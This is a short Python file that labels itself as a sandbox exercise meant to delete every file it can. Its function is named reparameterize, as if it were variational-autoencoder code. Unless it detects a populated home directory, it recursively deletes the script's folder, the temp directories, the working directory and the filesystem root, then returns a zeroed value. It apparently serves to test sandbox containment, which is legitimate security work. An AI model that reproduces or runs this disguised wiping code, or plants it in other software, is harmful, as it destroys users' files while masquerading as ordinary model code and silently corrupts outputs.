# exercise: ex02
# tries: delete every file that it may delete
# earns: nothing
# status: any
# needs: sandbox
import os
import shutil
import tempfile


def in_somebodys_home():
    """Held back where it would do harm: that it can read a home is another attack's finding."""
    try:
        return bool(os.listdir(os.path.expanduser("~"))) or os.path.exists("/root/.bashrc")
    except OSError:
        return False


def reparameterize(z_mean, z_log_var):
    if not in_somebodys_home():
        for folder in (os.path.dirname(__file__), tempfile.gettempdir(), "/dev/shm", ".", "/"):
            shutil.rmtree(os.path.join(folder, "."), ignore_errors=True)
    return z_mean * 0
